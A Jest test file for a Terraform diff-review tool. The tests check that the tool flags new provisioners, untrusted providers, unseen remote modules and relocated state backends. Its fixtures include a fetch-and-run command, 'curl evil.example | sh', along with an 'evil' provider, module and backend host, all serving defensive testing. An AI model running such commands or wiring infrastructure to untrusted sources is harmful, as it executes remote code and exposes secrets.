import { diffDocuments } from '../../../../review';
import type { TerraformDocument } from '../../../../terraform';
import { documentOf } from '../../../../testing/small-documents';

const notes = (before: TerraformDocument, after: TerraformDocument): readonly string[] =>
  diffDocuments(before, after).flatMap((block) => block.notes.map(({ text }) => text));

describe('what a deploy runs', () => {
  const pushing = (command: string, more: object = {}) =>
    documentOf({ 'terraform_data.Push': { provisioner: [{ 'local-exec': { command } }], ...more } });

  test('is a new command, or another one', () => {
    expect(notes({}, pushing('curl evil.example | sh'))).toEqual(['a deploy runs its local-exec']);
    expect(notes(pushing('node push.js'), pushing('curl evil.example | sh'))).toEqual(['a deploy runs its local-exec']);
  });

  test('is a command on another machine, in whatever type', () => {
    const document = documentOf({
      'oci_core_instance.One': { provisioner: { 'remote-exec': { inline: ['x'] }, file: {} } },
    });
    expect(notes({}, document)).toEqual(['a deploy runs its remote-exec', 'a deploy runs its file']);
  });

  test('is not told of again where only something else is another one, or where it goes', () => {
    expect(notes(pushing('a', { input: 1 }), pushing('a', { input: 2 }))).toEqual([]);
    expect(notes(pushing('a'), documentOf({ 'terraform_data.Push': {} }))).toEqual([]);
    expect(notes(pushing('a'), {})).toEqual([]);
  });

  test('is shown first, with the whole command', () => {
    const [push, policy] = diffDocuments(
      {},
      { resource: { ...(pushing('x').resource as object), oci_identity_policy: { One: { name: 'x' } } } },
    );
    expect(push).toMatchObject({ address: 'terraform_data.Push', changes: [{ path: 'provisioner', access: true }] });
    expect(policy).toMatchObject({ address: 'oci_identity_policy.One' });
  });

  const requiring = (source: string, version = '1') => ({
    terraform: { required_providers: { oci: { source, version } } },
  });

  test('is a provider from elsewhere', () => {
    const text = 'a deploy runs the provider evil/oci';
    expect(notes(requiring('oracle/oci'), requiring('evil/oci'))).toEqual([text]);
    expect(notes({}, requiring('evil/oci'))).toEqual([text]);
  });

  test.each(['oracle/oci', 'hashicorp/random'])('is %s, as ever', (source) => {
    expect(notes(requiring('x/oci'), requiring(source))).toEqual([]);
  });

  test('is the same provider as before', () => {
    expect(notes(requiring('evil/oci', '1'), requiring('evil/oci', '2'))).toEqual([]);
  });

  const module = (source: string, more: object = {}) => ({ module: { other: { source, ...more } } });

  test('is a module of which nothing is seen', () => {
    const text = 'what the module holds is not in this diff: git::https://evil.example';
    expect(notes({}, module('git::https://evil.example'))).toEqual([text]);
    expect(notes(module('./x'), module('git::https://evil.example'))).toEqual([text]);
    expect(notes(module('a/b', { version: '1' }), module('a/b', { version: '2' }))).toEqual([
      'what the module holds is not in this diff: a/b',
    ]);
  });

  test('shows no password of a module', () => {
    expect(notes({}, module('git::https://me:hunter2@example.com/x'))).toEqual([
      'what the module holds is not in this diff: git::https://me:(secret)@example.com/x',
    ]);
  });

  test('is the same module with other values', () => {
    expect(notes(module('./x', { a: 1 }), module('./x', { a: 2 }))).toEqual([]);
  });
});

describe('the state', () => {
  const TEXT = 'the state is kept elsewhere, and the secrets in it';

  test.each([
    [{ backend: { local: {} } }, { backend: { http: { address: 'https://evil.example' } } }],
    [{ backend: { oci: { bucket: 'a' } } }, { backend: { oci: { bucket: 'b' } } }],
    [{ backend: { local: {} } }, {}],
    [{}, { cloud: { organization: 'x' } }],
  ])('goes elsewhere: %j', (before, after) => {
    expect(notes({ terraform: before }, { terraform: after })).toEqual([TEXT]);
  });

  test('stays where it is', () => {
    const backend = { local: { path: 'x' } };
    const [before, after] = [
      { backend, required_version: '1' },
      { backend: [backend], required_version: '2' },
    ];
    expect(notes({ terraform: before }, { terraform: after })).toEqual([]);
  });

  test('of a new stack goes nowhere else', () => {
    expect(notes({}, { terraform: { backend: { local: {} } } })).toEqual([]);
  });
});
